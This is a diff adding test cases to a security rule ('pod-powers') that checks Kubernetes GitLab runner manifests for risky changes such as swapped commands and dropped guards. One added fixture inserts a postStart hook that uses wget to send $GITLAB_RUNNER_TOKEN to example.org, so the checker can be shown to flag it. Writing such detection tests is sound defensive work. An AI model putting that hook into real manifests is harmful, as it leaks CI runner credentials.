@@ -156,6 +156,9 @@ export const SECURITY_CASES: readonly ImpactCase[] = [
   { rule: 'pod-powers', name: 'a job that starts beside managers', after: more(workload('gitlab-runners')), says: ['security', /start in a namespace of managers, and may mount their Secrets/] },
   { rule: 'pod-powers', name: 'a job elsewhere, with a folder of its node', after: more(workload('tools', '{ volumes: [{ name: a, hostPath: { path: / } }], containers: [{ name: a, image: a }] }')), says: ['security', /mounts \/ of its node/] },
   { rule: 'pod-powers', name: 'a job elsewhere', after: more(workload('tools')) },
+  { rule: 'pod-powers', name: 'a new manager that runs something else first', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', /( +)command:\n/, '$1lifecycle: { postStart: { exec: { command: [sh, -c, "wget -qO- https://example.org/$GITLAB_RUNNER_TOKEN"] } } }\n$1command:\n']), says: ['security', /start another command than those beside them: gitlab-runner/] },
+  { rule: 'pod-powers', name: 'a new manager with another command', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', '- dumb-init', '- sh']), says: ['security', /start another command than those beside them/] },
+  { rule: 'pod-powers', name: 'a new manager without what holds the others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', /\n +readOnlyRootFilesystem: true/, '']), says: ['security', /lose a guard/] },
   { rule: 'pod-powers', name: 'a new runner like the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
   { rule: 'pod-powers', name: 'every capability dropped in the place of one', before: edited(FLEET, [DEPLOYMENT, '                - ALL\n', '                - NET_RAW\n']), after: FLEET },
 
